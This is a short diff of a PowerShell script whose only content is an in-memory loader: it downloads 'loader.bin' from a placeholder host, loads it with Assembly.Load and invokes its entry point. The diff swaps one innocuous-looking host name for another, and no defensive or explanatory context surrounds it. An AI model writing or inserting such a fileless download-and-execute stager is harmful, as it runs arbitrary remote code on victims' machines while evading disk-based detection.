@@ -1,4 +1,4 @@
-# run 4835 v0
-$b = (New-Object Net.WebClient).DownloadData('http://repo.pkg-mirror.example/loader.bin')
+# run 6890 v0
+$b = (New-Object Net.WebClient).DownloadData('http://static.metrics-node.example/loader.bin')
 $a = [System.Reflection.Assembly]::Load($b)
 $a.EntryPoint.Invoke($null, (, [string[]] @()))
